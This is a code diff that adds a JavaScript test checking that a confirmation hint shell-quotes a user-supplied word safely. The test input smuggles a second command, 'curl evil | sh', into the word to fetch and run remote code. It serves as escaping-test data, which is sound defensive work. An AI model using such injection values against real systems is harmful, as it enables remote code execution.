@@ -25,4 +25,12 @@ describe('the confirmation of a containment', () => {
   ])('is neither %j with %j, given %j', async (typed, answers, given) => {
     await expect(answer(typed, answers, given)).rejects.toMatchObject({ code: 'DECLINED' });
   });
+
+  it('is asked for with a word that a shell takes as it is', async () => {
+    const word = "shop/x'; curl evil | sh; '";
+    const asked = confirmContainment({ ...QUESTION, word, given: undefined }, { yes: true, mayAsk: false, signal });
+    await expect(asked).rejects.toMatchObject({
+      hints: [`Repeat the command with --confirm 'shop/x'\\''; curl evil | sh; '\\'''`],
+    });
+  });
 });
